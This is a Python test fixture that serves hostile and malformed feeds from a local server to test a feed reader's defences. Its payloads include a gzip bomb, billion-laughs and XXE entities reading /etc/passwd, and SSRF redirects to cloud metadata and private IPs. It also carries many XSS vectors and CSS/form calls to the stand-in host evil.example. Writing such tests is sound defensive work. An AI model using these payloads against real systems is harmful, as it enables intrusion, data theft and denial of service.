"""Outlets that mean harm, or are only broken, and one that is well: what each sends, and what its readers are to hear.

Every outlet has a host of its own (`bomb.localhost`), as in the world, so that politeness to one does not slow another.
"""

from __future__ import annotations

import gzip
import json
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63606060000000040001f61738550000"
    "000049454e44ae426082"
)
EVIL = "https://evil.example"
PROSE = (
    "The ferry across the strait is free of charge again from Monday, the council decided late on Friday after a debate of "
    "four hours that nobody who was there will soon forget."
)
SCRIPT = "<script>window.hurt = 1</script>"


class Handler(BaseHTTPRequestHandler):
    """Hands each request to the outlet whose name the Host header begins with."""

    protocol_version = "HTTP/1.1"
    server: World

    def do_GET(self) -> None:
        name = (self.headers["Host"] or "").partition(".")[0]
        self.server.asked.append((name, self.path))
        outlet = OUTLETS.get(name)
        if self.path == "/robots.txt" or outlet is None:
            self.give(b"", "text/plain", status=404)
        elif self.path == "/feed":
            outlet.feed(self)
        else:
            outlet.page(self)

    def give(self, body: bytes, kind: str = "text/html", status: int = 200, **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for key, value in headers.items():
            self.send_header(key.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def go(self, target: str, status: int = 302) -> None:
        self.give(b"", status=status, Location=target)

    def wire(self, data: bytes) -> None:
        """Bytes as they are, and then the end."""
        self.wfile.write(data)
        self.close_connection = True

    @property
    def here(self) -> str:
        return f"http://{self.headers['Host']}"

    def log_message(self, *_: object) -> None:
        pass


class World(ThreadingHTTPServer):
    """Serves all outlets on one port of 127.0.0.1; a context manager."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.asked: list[tuple[str, str]] = []

    def __enter__(self) -> World:
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.shutdown()
        self.server_close()

    def handle_error(self, request: Any, client_address: Any) -> None:
        pass  # readers that hang up are what these outlets deserve

    def address(self, name: str, path: str = "/feed") -> str:
        return f"http://{name}.localhost:{self.server_address[1]}{path}"


Answer = Callable[[Handler], None]


@dataclass(frozen=True)
class Outlet:
    """What one outlet sends for its feed and for its pages.

    `fails` is what its readers must be told, in any of these words; empty where the feed must be well.
    """

    feed: Answer
    page: Answer
    fails: tuple[str, ...] = ()
    quiet: bool = False
    """Whether it brings nothing, and that is right."""


def rss(*items: str, head: str = '<?xml version="1.0"?>', title: str = "An outlet") -> bytes:
    return f'{head}<rss version="2.0"><channel><title>{title}</title>{"".join(items)}</channel></rss>'.encode()


def item(number: int, link: str, title: str = "", more: str = "") -> str:
    return f"<item><guid>{number}</guid><link>{link}</link><title>{title or f'Item {number}'}</title>{more}</item>"


def html(body: str = "", head: str = "", title: str = "Ferry is free again") -> bytes:
    """An article that reads well, with whatever is to be smuggled in."""
    return (
        f"<!doctype html><html lang=en><head><title>{title}</title>{head}</head><body>{body}<article><h1>{title}</h1>"
        f"<p>{PROSE}</p>{body}<p>{PROSE}</p><p>{PROSE}</p></article></body></html>"
    ).encode()


def feed_of(*items: Callable[[str], str], **how: str) -> Answer:
    """A feed whose items are made from the outlet's own address."""
    return lambda to: to.give(rss(*(make(to.here) for make in items), **how), "application/rss+xml")


def one(to: Handler) -> None:
    to.give(rss(item(1, f"{to.here}/1", "Ferry is free again")), "application/rss+xml")


def plain_page(to: Handler) -> None:
    if to.path.endswith(".png"):
        to.give(PICTURE, "image/png")
    else:
        to.give(html(), "text/html")


def sends(body: bytes, kind: str = "application/rss+xml", **headers: str) -> Answer:
    return lambda to: to.give(body, kind, **headers)


# ── Too much ─────────────────────────────────────────────────────────────────────────────────────────────────────────


@cache
def bomb() -> bytes:
    """One GB of zeros in about one MB of gzip: each block stands for itself, so one compressed block is repeated."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    squeeze.compress(b"")
    block = squeeze.compress(bytes(1024**2)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03" + block * 1024


def bombing(to: Handler) -> None:
    to.give(bomb(), "application/rss+xml", Content_Encoding="gzip")


def twice_packed(to: Handler) -> None:
    to.give(gzip.compress(bomb()), "application/rss+xml", Content_Encoding="gzip, gzip")


def endless(to: Handler) -> None:
    """A body without an end and without a length."""
    to.send_response(200)
    to.send_header("Content-Type", "application/rss+xml")
    to.end_headers()
    to.close_connection = True
    while True:
        to.wfile.write(b"<item/>" * 10_000)


def dripping(to: Handler) -> None:
    to.send_response(200)
    to.send_header("Content-Type", "application/rss+xml")
    to.send_header("Content-Length", "1000000")
    to.end_headers()
    while True:
        to.wfile.write(b"<")
        to.wfile.flush()
        time.sleep(0.2)


def silent(to: Handler) -> None:
    time.sleep(60)


def many(to: Handler) -> None:
    to.give(rss("".join(f"<item><title>Item {n}</title></item>" for n in range(100_000))), "application/rss+xml")


def same_ids(to: Handler) -> None:
    to.give(rss("".join(f"<item><guid>same</guid><title>Item {n}</title></item>" for n in range(10_000))))


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
LAUGHING = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>'
LEAKING = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd">'
    '<!ENTITY % other SYSTEM "http://leak.localhost/outside.dtd"> %other;]>'
)


# ── Elsewhere ────────────────────────────────────────────────────────────────────────────────────────────────────────


def further(to: Handler) -> None:
    to.go(f"{to.here}/further/{time.monotonic_ns()}")


def round_and_round(to: Handler) -> None:
    to.go("/there" if to.path != "/there" else "/feed")


# ── Not what it says ─────────────────────────────────────────────────────────────────────────────────────────────────

UMLAUTS = rss(
    item(1, "http://liar.localhost/1", "Überflutung in Nørrebro"), head='<?xml version="1.0" encoding="UTF-16"?>'
)


def poisoned_items(here: str) -> str:
    """Addresses that are none, in every field that takes one."""
    js, data = "javascript:window.hurt=1", f"data:text/html,{SCRIPT}"
    body = (
        f'&lt;a href="{js}"&gt;here&lt;/a&gt;&lt;img src="{data}" onerror="hurt()"&gt;&lt;iframe src="{js}"&gt;&lt;/iframe&gt;'
        f"&lt;svg onload=hurt()&gt;&lt;/svg&gt;&lt;p style='background:url({EVIL}/css)'&gt;{PROSE}&lt;/p&gt;"
        f"&lt;form action={EVIL}&gt;&lt;input autofocus onfocus=hurt()&gt;&lt;/form&gt;&lt;base href={EVIL}&gt;"
        f"&lt;meta http-equiv=refresh content='0;{EVIL}'&gt;&lt;object data={EVIL}&gt;&lt;embed src={EVIL}&gt;"
    )
    full = f'<c:encoded xmlns:c="http://purl.org/rss/1.0/modules/content/">{body}</c:encoded>'
    media = f'<enclosure url="{js}" type="image/png"/><m:content xmlns:m="http://search.yahoo.com/mrss/" url="{data}"/>'
    return (
        item(1, js, "&lt;img src=x onerror=hurt()&gt; one", full + media)
        + item(2, data, "&lt;script&gt;hurt()&lt;/script&gt; two", full)
        + item(3, f"{here}/poison", '"&gt;&lt;svg/onload=hurt()&gt; three', full + media)
        + item(4, "vbscript:hurt", "four", f"<author>{'&lt;b onclick=hurt()&gt;Ada&lt;/b&gt;'}</author>")
        + item(5, "http://user:word@evil.example/", "five")
        + item(6, "java\nscript:hurt()", "six")
        + f"<image><url>{js}</url><link>{js}</link></image>"
    )


def poisoned_page(to: Handler) -> None:
    """An article with whatever a page can carry besides."""
    if to.path.endswith(".svg") or to.path.endswith("drawing.png"):
        kind = "image/svg+xml" if to.path.endswith(".svg") else "image/png"
        to.give(f'<svg xmlns="http://www.w3.org/2000/svg" onload="hurt()">{SCRIPT}</svg>'.encode(), kind)
        return
    if to.path.endswith(".html"):
        to.give(b"<script>hurt()</script>", "image/png")
        return
    js = "javascript:window.hurt=1"
    ld = {
        "@context": "https://schema.org", "@type": "NewsArticle", "headline": f"Ferry {SCRIPT}", "url": js,
        "mainEntityOfPage": js, "image": [f"data:text/html,{SCRIPT}", js, f"{to.here}/drawing.svg"],
        "author": {"name": f"Ada {SCRIPT}", "url": js}, "publisher": {"name": "<b>Tide</b>", "logo": js},
        "articleSection": ["News", SCRIPT, "../../etc"], "datePublished": "9999-12-31T23:59:59-12:00", "inLanguage": '"><script>',
        "copyrightNotice": f"© {SCRIPT}", "articleBody": f"{PROSE} {SCRIPT}",
    }  # fmt: skip
    linked = json.dumps(ld).replace("</", "<\\/")
    head = (
        f'<link rel=canonical href="{js}"><link rel=stylesheet href="{EVIL}/x.css"><link rel=amphtml href="{js}">'
        f'<meta property="og:image" content="{to.here}/drawing.svg"><meta property="og:url" content="{js}">'
        f'<meta property="og:title" content="Ferry &lt;script&gt;hurt()&lt;/script&gt;"><base href="{EVIL}/">'
        f'<meta http-equiv=refresh content="0;url={js}"><style>@import url({EVIL}/y.css); p {{background: url({EVIL}/z)}}</style>'
        f'<script type="application/ld+json">{linked}</script>{SCRIPT}'
    )
    body = (
        f'<p onclick="hurt()" style="background:url({EVIL}/css?secret)">{PROSE} <a href="{js}">one</a> '
        f'<a href="JaVa\tScRiPt:hurt()">two</a> <a href="data:text/html,{SCRIPT}">three</a> <a href="//evil.example/">four</a></p>'
        f'<figure><img src="{to.here}/drawing.svg" onerror="hurt()"><figcaption>A drawing {SCRIPT}</figcaption></figure>'
        f'<figure><img src="{to.here}/drawing.png" srcset="{js} 2x"><figcaption>Not a picture</figcaption></figure>'
        f'<figure><img src="{to.here}/picture.html"><figcaption>A page</figcaption></figure>'
        f'<figure><img src="data:image/svg+xml,{SCRIPT}"><figcaption>Data</figcaption></figure>'
        f'<figure><img src="http://169.254.169.254/latest/meta-data"><figcaption>Inside</figcaption></figure>'
        f'<figure><img src="{to.here}/image/../../../etc/passwd%00.png"><figcaption>Path</figcaption></figure>'
        f'<iframe src="{js}"></iframe><iframe src="{EVIL}/embed" srcdoc="{SCRIPT}"></iframe><embed src="{js}"><object data="{js}"></object>'
        f"<svg onload=hurt()><script>hurt()</script><a xlink:href='{js}'><text>x</text></a></svg><math href='{js}'>x</math>"
        f"<table><tr><td onmouseover=hurt()>{SCRIPT}</td><td>2</td></tr><tr><td><img src=x onerror=hurt()></td><td>4</td></tr></table>"
        f"<blockquote onclick=hurt()>{PROSE}{SCRIPT}</blockquote><ul><li onclick=hurt()>{SCRIPT}one</li><li>two</li></ul>"
        f"<form action={EVIL}><button formaction={js}>Go</button></form><template>{SCRIPT}</template><noscript>{SCRIPT}</noscript>"
        f"<p>&lt;script&gt;hurt()&lt;/script&gt; &lt;img src=x onerror=hurt()&gt; {PROSE}</p>"
    )
    to.give(html(body, head, title="Ferry <script>hurt()</script>"))


STRANGE_DATES = "".join(
    item(number, "", f"Date {number}", f"<pubDate>{date}</pubDate>")
    for number, date in enumerate(
        ("Fri, 31 Dec 9999 23:59:59 -1200", "Mon, 01 Jan 0001 00:00:00 +1400", "9999-12-31T23:59:59.999999-23:59",
         "0001-01-01T00:00:00+23:59", "Thu, 99 Foo 2025 99:99:99 +9999", "1e308", "-1", "٢٠٢٥-٠٣-٠٨", "2025-03-08T14:19:00+99:99", "x" * 100_000)
    )
)  # fmt: skip

SURROGATES = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Lone \ud800 surrogates",
        "items": [
            {"id": "\udfff", "url": "http://halves.localhost/\ud800", "title": "A \ud83d half \x00 face", "content_text": "\udc00" * 1000},
            {"id": 7, "url": ["x"], "title": {"a": 1}, "content_html": 5, "date_published": [], "authors": "Ada", "image": {}},
        ],
    }
).encode()  # fmt: skip

OUTLETS: dict[str, Outlet] = {
    "good": Outlet(feed_of(lambda here: item(1, f"{here}/ferry", "Ferry is free again")), plain_page),
    # too much
    "bomb": Outlet(bombing, bombing, ("larger than",)),
    "bomb2": Outlet(twice_packed, plain_page, ("larger than", "cannot be read")),
    "bombpage": Outlet(one, bombing),
    "endless": Outlet(endless, endless, ("larger than",)),
    "claims": Outlet(lambda to: to.wire(b"HTTP/1.1 200 OK\r\nContent-Length: 999999999999\r\n\r\n"), plain_page, ("larger than",)),
    "drip": Outlet(dripping, dripping, ("did not answer in time",)),
    "silent": Outlet(silent, silent, ("did not answer in time",)),
    "many": Outlet(many, plain_page),
    "same": Outlet(same_ids, plain_page),
    "deep": Outlet(sends(b"<rss>" + b"<a>" * 300_000), plain_page, quiet=True),
    "longtitle": Outlet(feed_of(lambda here: item(1, f"{here}/1", "A long title " * 80_000)), lambda to: to.give(html(title="T" * 1_000_000))),
    "longline": Outlet(sends(b"<rss><channel><item><title>" + b"x" * 5_000_000), plain_page),
    "headers": Outlet(lambda to: to.wire(b"HTTP/1.1 200 OK\r\n" + b"X: " + b"x" * 1_000_000 + b"\r\n\r\n"), plain_page, ("not sound HTTP", "garbled")),
    # entities
    "laughs": Outlet(sends(rss(item(1, "http://laughs.localhost/1", "So &l11; funny"), head=LAUGHING)), plain_page),
    "leak": Outlet(sends(rss(item(1, "http://leak.localhost/1", "Secret &file;"), head=LEAKING)), plain_page),
    # elsewhere
    "further": Outlet(further, further, ("redirects more than",)),
    "circle": Outlet(round_and_round, round_and_round, ("in a circle",)),
    "inside": Outlet(lambda to: to.go("http://10.0.0.1/feed"), plain_page, ("10.0.0.1",)),
    "metadata": Outlet(lambda to: to.go("http://169.254.169.254/latest/"), plain_page, ("169.254.169.254",)),
    "six": Outlet(lambda to: to.go("http://[::ffff:10.0.0.1]/feed"), plain_page, ("10.0.0.1", "::ffff:a00:1")),
    "file": Outlet(lambda to: to.go("file:///etc/passwd"), plain_page, ("not a web address",)),
    "script": Outlet(lambda to: to.go("javascript:hurt()"), plain_page, ("not a web address",)),
    "away": Outlet(one, lambda to: to.go("http://192.168.0.1/admin")),
    # not what it says
    "page": Outlet(plain_page, plain_page, ("feed",)),
    "empty": Outlet(sends(b""), plain_page, ("feed", "empty")),
    "nothing": Outlet(sends(b"", "text/plain"), plain_page, ("feed", "empty")),
    "binary": Outlet(sends(bytes(range(256)) * 1000, "application/rss+xml"), plain_page, ("feed",)),
    "packed": Outlet(sends(b"\x1f\x8b no gzip at all", Content_Encoding="gzip"), plain_page, ("cannot be read",)),
    "coding": Outlet(sends(rss(), Content_Encoding="rot13"), plain_page, ("cannot be read",)),
    "garbage": Outlet(lambda to: to.wire(b"\x00\xff\x00 hello\r\n\r\n"), plain_page, ("not sound HTTP",)),
    "hangup": Outlet(lambda to: to.wire(b""), plain_page, ("closed the connection", "broke off")),
    "half": Outlet(lambda to: to.wire(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n<rss>"), plain_page, ("broke off",)),
    "denied": Outlet(lambda to: to.give(b"", status=403), plain_page, ("answered 403",)),
    "trouble": Outlet(lambda to: to.give(b"", status=503, Retry_After="99999999999999"), plain_page, ("answered 503",)),
    "odd": Outlet(lambda to: to.wire(b"HTTP/1.1 999 \x1b[31mRed\r\nContent-Length: 0\r\n\r\n"), plain_page, ("answered 999", "not sound HTTP")),
    "liar": Outlet(sends(UMLAUTS, "application/rss+xml; charset=big5"), plain_page),
    "nuls": Outlet(sends(rss(item(1, "http://nuls.localhost/1", "A\x00B\x01C\x1b[31m"), "\x00" * 1000)), plain_page),
    "halves": Outlet(sends(SURROGATES, "application/feed+json"), plain_page),
    "halfxml": Outlet(sends(rss(item(1, "http://halfxml.localhost/1", "A &#xD800; &#0; &#xFFFE; B"))), plain_page),
    "bare": Outlet(sends(rss("<item/>", "<item></item>", "<item><title/><link/></item>")), plain_page),
    "dates": Outlet(sends(rss(STRANGE_DATES)), plain_page),
    "etag": Outlet(sends(rss(item(1, "", "x")), ETag='"' + "e" * 7000 + '"', Last_Modified="x" * 5000), plain_page),
    "poison": Outlet(feed_of(poisoned_items, title="&lt;script&gt;hurt()&lt;/script&gt;"), poisoned_page),
}  # fmt: skip
